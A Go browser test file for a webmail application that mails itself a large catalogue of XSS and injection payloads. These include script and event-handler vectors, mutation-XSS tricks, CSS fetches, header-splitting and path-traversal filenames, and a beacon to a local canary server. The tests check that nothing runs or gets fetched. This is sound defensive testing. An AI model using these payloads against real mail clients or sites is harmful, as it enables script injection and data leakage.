package browser_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// hostile is one mail that wants something to run or to be fetched. EVIL stands for a script that tells, CANARY for the
// address of the server that listens.
type hostile struct {
	name    string
	body    string // text/html
	subject string // "" is the name
	from    string // the display name
	part    string // a whole part besides the body
	images  int    // fetched once the reader allows images
}

// evil tells in every way a script has. It holds no quotation mark, so that it fits into any attribute.
const evil = "window.ran=1;try{top.ran=1}catch{};new Image().src=`CANARY/ran`;fetch(`CANARY/ran`);alert(1)"

// hostileBodies are attacks by the text of a mail.
var hostileBodies = []hostile{
	{name: "script", body: `<script>EVIL</script><script src="CANARY/script.js"></script>`},
	{name: "script in capitals and pieces", body: `<ScRiPt >EVIL</ScRiPt ><scr<script>ipt>EVIL</script>`},
	{name: "event attributes", body: `<img src=x onerror="EVIL"><body onload="EVIL"><p onmouseover="EVIL" style="width:9999px;height:9999px">x</p><details open ontoggle="EVIL"><input autofocus onfocus="EVIL">`},
	{name: "events without quotes or spaces", body: "<img/src=x/onerror=EVIL><svg/onload=EVIL><img src=x\nonerror\n=\nEVIL>"},
	{name: "links that run", body: `<a href="javascript:EVIL">a</a><a href=" java&#10;script:EVIL">b</a><a href="data:text/html,<script>EVIL</script>">c</a><a href="vbscript:x">d</a>`},
	{name: "svg", body: `<svg onload="EVIL"><script>EVIL</script><image href="CANARY/svg.png"/><use href="CANARY/use.svg#x"/><animate onbegin="EVIL" attributeName=x dur=1s></svg>`},
	{name: "math", body: `<math><maction actiontype="statusline" xlink:href="javascript:EVIL">x</maction></math><math href="javascript:EVIL">y</math>`},
	{name: "style element", body: `<style>@import "CANARY/import.css";body{background:url(CANARY/style.png)}@font-face{font-family:x;src:url(CANARY/font)}p{font-family:x}</style><p>x</p>`},
	{name: "style attribute", body: `<p style="background:url(CANARY/a.png);list-style-image:url('CANARY/b.png');content:url(CANARY/c.png);cursor:url(CANARY/d.cur),auto;border-image:url(CANARY/e.png)">x</p>`},
	{name: "style escaped", body: `<p style="background:u\72l(CANARY/a.png);b\61 ckground-image:\75rl(CANARY/b.png)">x</p><p style="background:image-set('CANARY/c.png' 1x)">x</p>`},
	{name: "style that runs", body: `<p style="width:expression(EVIL);behavior:url(CANARY/x.htc);-moz-binding:url(CANARY/x.xml)">x</p>`},
	{name: "link element", body: `<link rel=stylesheet href="CANARY/link.css"><link rel=prefetch href="CANARY/prefetch"><link rel=preconnect href="CANARY"><link rel=dns-prefetch href="CANARY"><link rel=preload as=image href="CANARY/preload">`},
	{name: "meta", body: `<meta http-equiv=refresh content="0;url=CANARY/refresh"><meta http-equiv=Content-Security-Policy content="script-src *">`},
	{name: "base", body: `<base href="CANARY/"><img src="base.png"><a href="x">x</a>`},
	{name: "frames", body: `<iframe src="CANARY/frame"></iframe><iframe srcdoc="<script>EVIL</script>"></iframe><iframe src="javascript:EVIL"></iframe><frameset><frame src="CANARY/f"></frameset>`},
	{name: "objects", body: `<object data="CANARY/object"></object><embed src="CANARY/embed"><applet code="CANARY/applet"></applet><portal src="CANARY/portal"></portal>`},
	{name: "form", body: `<form action="CANARY/form" id=f><input name=password autofocus><input type=image src="CANARY/input.png"><button formaction="javascript:EVIL">x</button></form><button form=f>y</button>`},
	{name: "media", body: `<video src="CANARY/v.mp4" poster="CANARY/poster.png" autoplay></video><audio src="CANARY/a.mp3" autoplay></audio><video><source src="CANARY/s.mp4" onerror="EVIL"><track src="CANARY/t.vtt"></video>`},
	{name: "attributes that fetch", body: `<table background="CANARY/table.png"><tr><td background="CANARY/td.png">x</td></tr></table><body background="CANARY/body.png"><a href="https://x.example" ping="CANARY/ping">x</a>`},
	{name: "image", body: `<img src="CANARY/image.png">`, images: 1},
	{name: "image of several", body: `<img srcset="CANARY/set.png 1x"><picture><source srcset="CANARY/source.png"><img src="CANARY/one.png"></picture>`, images: 1},
	{name: "image that climbs out", body: `<img src='CANARY/quote.png" onerror="EVIL'><img alt='" data-remote-src="CANARY/forged.png' src="x">`},
	{name: "image of the reader", body: `<img src="/sign-out"><img src="http://127.0.0.1:1/port"><img src="//canary.example/protocol"><img src="file:///etc/passwd"><img src="\\canary.example\x.png">`},
	{name: "image within", body: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><img src="data:text/html,<script>EVIL</script>"><img src="cid:svg@x">`},
	{name: "mutation by noscript", body: `<noscript><p title="</noscript><img src=x onerror='EVIL'>"></noscript>`},
	{name: "mutation by style in svg", body: `<svg></p><style><a id="</style><img src=x onerror='EVIL'>"></svg>`},
	{name: "mutation by math", body: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=EVIL&gt;"></table></mtext></math>`},
	{name: "mutation by text elements", body: `<textarea><p title="</textarea><img src=x onerror='EVIL'>"></textarea><title><p title="</title><script>EVIL</script>"></title><xmp><p title="</xmp><img src=x onerror='EVIL'>"></xmp><plaintext><script>EVIL</script>`},
	{name: "mutation by template", body: `<template><script>EVIL</script></template><template shadowrootmode=open><img src=x onerror="EVIL"></template>`},
	{name: "mutation by comments", body: `<!--><script>EVIL</script>--><!-- --!><img src=x onerror="EVIL"> --><![CDATA[<script>EVIL</script>]]><?xml <script>EVIL</script>?><!--[if mso]><script>EVIL</script><![endif]-->`},
	{name: "out of the frame", body: `</body></html></iframe><script>EVIL</script><html><body onload="EVIL">`},
	{name: "htmx in the mail", body: `<div hx-get="/settings" hx-trigger="load" hx-on::load="EVIL" data-hx-get="CANARY/hx">x</div><p data-copy="x" data-confirm="x" class="walk" id="main">x</p>`},
	{name: "clobbering", body: `<form id=document name=document><img name=cookie><img id=body name=querySelector></form><a id=location href="CANARY/x">x</a>`},
	{name: "nothing but NUL", body: "<scr\x00ipt>EVIL</scr\x00ipt><img src=x on\x00error=EVIL>"},
}

// hostileHeaders are attacks by what stands around the text.
var hostileHeaders = []hostile{
	{name: "subject with a script", subject: `<script>EVIL</script>"><img src=x onerror="EVIL">`},
	{name: "subject encoded", subject: "=?utf-8?q?=3Cscript=3EEVIL=3C/script=3E?= =?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?="},
	{name: "subject in UTF-7", subject: "=?utf-7?Q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?="},
	{name: "subject for templates", subject: `{{.User}} ${alert(1)} {% raw %} <%= 1 %> '-EVIL-'`},
	{name: "subject that turns around", subject: "=?utf-8?q?=E2=80=AEgpj.exe=00?="},
	{name: "name with a script", from: `<script>EVIL</script><img src=x onerror=EVIL>`},
	{name: "name that leaves its attribute", from: `' onmouseover='EVIL' autofocus onfocus='EVIL' x='`},
	{name: "file name with a script", part: "Content-Type: text/plain\nContent-Disposition: attachment; filename=\"<img src=x onerror=EVIL>.txt\"\n\nx"},
	{name: "file name that climbs", part: "Content-Type: text/plain\nContent-Disposition: attachment; filename=\"../../../../etc/cron.d/x\"\n\nx"},
	{name: "file name that breaks the header", part: "Content-Type: text/plain\nContent-Disposition: attachment; filename*=utf-8''a%22%0d%0aContent-Type%3A%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E\n\nx"},
	{name: "attached HTML", part: attachedHTML},
	{name: "attached SVG", part: "Content-Type: image/svg+xml\nContent-Disposition: attachment; filename=picture.svg\n\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"EVIL\"><script>EVIL</script></svg>"},
	{name: "inline SVG", body: `<img src="cid:svg@x">`, part: "Content-Type: image/svg+xml\nContent-Disposition: inline; filename=x.svg\nContent-ID: <svg@x>\n\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"EVIL\"/>"},
	{name: "inline HTML", body: `<img src="cid:page@x"><iframe src="cid:page@x"></iframe>`, part: "Content-Type: text/html\nContent-Disposition: inline; filename=x.html\nContent-ID: <page@x>\n\n<script>EVIL</script>"},
	{name: "content type with a script", part: "Content-Type: text/html\"><script>EVIL</script>; name=\"x.html\"\nContent-Disposition: attachment\n\n<script>EVIL</script>"},
	{name: "script as an image", part: "Content-Type: image/png\nContent-Disposition: attachment; filename=x.png\n\n<html><script>EVIL</script></html>"},
}

// message is the mail, as the client Ben writes it and Anna's mailbox redirects it.
func (h hostile) message(c *canary) string {
	told := strings.NewReplacer("EVIL", strings.ReplaceAll(evil, "CANARY", c.url), "CANARY", c.url)
	subject, from := h.subject, h.from
	if subject == "" {
		subject = h.name
	}
	if from == "" {
		from = "Ben Carter"
	}
	body := h.body
	if body == "" {
		body = "<p>Nothing.</p>"
	}
	parts := "--b\nContent-Type: text/html; charset=utf-8\n\n" + body + "\n"
	if h.part != "" {
		parts += "--b\n" + h.part + "\n"
	}
	return mail(fmt.Sprintf("%q <ben@client.example>", told.Replace(from)), "anna@corp.example", told.Replace(subject), told.Replace(parts)+"--b--",
		"Resent-From: anna@corp.example", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=b")
}

// testAttacks reads mail that is meant to harm: nothing of it runs, and nothing is fetched before the reader allows
// images, and then images alone, without a word of who reads.
func testAttacks(t *testing.T, w world) {
	s, c := newCompany(t, w), newCanary(t)
	attacks := slices.Concat(hostileBodies, hostileHeaders)
	for _, h := range attacks {
		s.send("ben@client.example", s.bcc("anna@corp.example"), h.message(c))
	}
	b := w.signedIn(t, s, "anna@corp.example")
	for i, filed := range s.filed(len(attacks)) {
		h, at := attacks[i], fmt.Sprintf("/mail/%d", filed.ID)
		b.harmless(c, h.name, at)
		for _, file := range filed.Attachments {
			b.saved(h.name, fmt.Sprintf("%s/attachments/%d", at, file.ID))
		}
		if h.body != "" {
			b.harmless(c, h.name, at+"/body") // also where it is opened outside of its frame
			b.harmless(c, h.name, at+"/body?as=text")
			b.images(c, h, at)
		}
	}
	for _, page := range []string{s.path("contact", "Ben Carter"), "/", "/review", "/search?q=e", "/numbers", fmt.Sprintf("/timeline/contact/%d", s.id("contact", "Ben Carter"))} {
		b.harmless(c, "the list at "+page, page)
	}
}

// filed are so many mails in the order in which they were sent.
func (s *site) filed(count int) (list []filedMail) {
	s.t.Helper()
	list = ask[[]filedMail](s, "activity", "list", "--limit", "0")
	if len(list) != count {
		s.t.Fatalf("%d mails are filed, want %d", len(list), count)
	}
	slices.SortFunc(list, func(a, b filedMail) int { return int(a.ID - b.ID) })
	return list
}

type filedMail struct {
	ID          int64
	Subject     string
	Attachments []struct{ ID int64 }
}

// testShowImages: images that lie elsewhere are fetched when the reader asks for them.
func testShowImages(t *testing.T, w world) {
	s, c := newCompany(t, w), newCanary(t)
	s.send("ben@client.example", s.bcc("anna@corp.example"), hostile{name: "With an image", body: `<p>Look:</p><img src="CANARY/image.png">`, part: attachedHTML}.message(c))
	at := fmt.Sprintf("/mail/%d", s.filed(1)[0].ID)
	b := w.signedIn(t, s, "anna@corp.example")
	b.harmless(c, "before", at)
	b.sees("Images from elsewhere are not loaded")
	b.allow(c.url + "/")
	b.click("Show images")
	b.until("see the image", func() bool { return slices.Equal(c.asked(), []string{"GET /image.png"}) })

	b.forbid()
	b.visit(at)
	err := chromedp.Do(b.ctx, chromedp.Navigate(s.url+at+"/attachments/1"))
	if err == nil || !strings.Contains(err.Error(), "ERR_ABORTED") {
		t.Errorf("opening an attached page: %v, want it to be saved instead of opened", err)
	}
	b.sees("With an image") // still where it was
}

const attachedHTML = "Content-Type: text/html\nContent-Disposition: attachment; filename=page.html\n\n<script>EVIL</script>"

// leftovers finds what no mail may bring to a page, were there no sandbox around it.
const leftovers = `[...document.body.querySelectorAll("*")].filter(e => e.matches("script, style, link, meta, base, iframe, frame, object, embed, form, input, button, svg, math, video, audio, template, noscript") ||
	e.namespaceURI !== "http://www.w3.org/1999/xhtml" || [...e.attributes].some(a => /^(on|hx-|data-hx|srcset|background|ping|id$|name$)/.test(a.name))).map(e => e.outerHTML.slice(0, 200))`

// harmless opens a page that shows a hostile mail.
func (b *tab) harmless(c *canary, what, path string) {
	b.t.Helper()
	b.want(what, b.visit(path), 200)
	if eval[bool](b, "'ran' in window || [...document.querySelectorAll('script')].some(s => !s.src)") {
		b.t.Errorf("%s: a script ran at %s", what, path)
	}
	if got := b.at(); got != path {
		b.t.Errorf("%s: %s leads to %s", what, path, got)
	}
	if heard := c.all(); len(heard) > 0 {
		b.t.Errorf("%s: reading %s asked elsewhere: %q", what, path, heard)
	}
	if strings.Contains(path, "/body") {
		if left := eval[[]string](b, leftovers); len(left) > 0 {
			b.t.Errorf("%s: the sandbox alone keeps this from harm: %q", what, left)
		}
	}
	if bad := eval[[]string](b, `[...document.querySelectorAll("a[href], area[href]")].map(a => a.protocol).filter(p => !["http:", "https:", "mailto:", "tel:"].includes(p))`); len(bad) > 0 {
		b.t.Errorf("%s: %s has links that may run: %q", what, path, bad)
	}
}

// saved says that a file is handed out to be saved, never to be shown on our origin.
func (b *tab) saved(what, path string) {
	b.t.Helper()
	got := b.download(path)
	if got.Status != 200 || got.Type != "application/octet-stream" || !strings.HasPrefix(got.Disposition, "attachment") ||
		!strings.Contains(got.Policy, "sandbox") || strings.ContainsAny(got.Disposition, "<>\r\n/\\") {
		b.t.Errorf("%s: %s is answered with %d, %q, %q, %q; want octets to be saved, in a sandbox", what, path, got.Status, got.Type, got.Disposition, got.Policy)
	}
}

// images lets the reader allow images, and sees what is fetched.
func (b *tab) images(c *canary, h hostile, at string) {
	b.t.Helper()
	b.allow("http:", "https:") // from anywhere, once it is asked for
	defer b.forbid()
	b.visit(at + "/body?images=1")
	asked := c.asked()
	if len(asked) < h.images {
		for end := time.Now().Add(patience); len(asked) < h.images && time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
			asked = append(asked, c.asked()...)
		}
	}
	if len(asked) != h.images {
		b.t.Errorf("%s: with images %q was asked for, want %d images", h.name, asked, h.images)
	}
	for _, request := range asked {
		if !strings.HasPrefix(request, "GET /") || !strings.HasSuffix(request, ".png") {
			b.t.Errorf("%s: %q was asked for; want an image, and no referrer and no cookie", h.name, request)
		}
	}
}
